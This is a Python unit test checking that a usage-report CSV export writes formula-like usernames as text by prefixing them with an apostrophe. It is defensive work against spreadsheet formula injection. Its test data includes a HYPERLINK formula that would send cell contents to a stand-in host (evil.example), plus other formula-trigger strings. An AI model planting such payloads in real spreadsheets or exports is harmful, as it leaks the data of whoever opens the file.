"""`phonos accounts usage --csv` is for a spreadsheet: a username that a spreadsheet would run as a formula
(`=HYPERLINK(...)`, `@SUM(...)`, usernames being whatever the operator typed) is written as text, with a leading
apostrophe as the dashboard's own CSV files write one (gateway/static/js/csv.js); the figures stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from jobservice.usage_report import LabUsage, Period, Row
from launcher.usage_table import as_csv

pytestmark = pytest.mark.unit


def usage(*usernames: str) -> LabUsage:
    accounts = [Row(name, requests=3, credits_used=-2, jobs_by_model={"esmfold": 1}) for name in usernames]
    total = Row(None, requests=3 * len(accounts), credits_used=-2 * len(accounts),
                jobs_by_model={"esmfold": len(accounts)})
    return LabUsage(Period(date(2026, 12, 1), date(2026, 12, 4)), ("esmfold",), accounts, total, date(2026, 9, 5))


def test_a_username_that_reads_as_a_formula_is_written_as_text() -> None:
    names = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)", "+1", "-x", "\tcmd", "ada", "a=b"]
    rows = list(csv.reader(io.StringIO(as_csv(usage(*names)), newline="")))
    assert [row[0] for row in rows[1:-1]] == [f"'{name}" for name in names[:5]] + ["ada", "a=b"]
    assert rows[-1][0] == ""  # the total's username stays empty
    assert {row[2] for row in rows[1:-1]} == {"-2"}  # a negative figure is a number, not a neutralised text
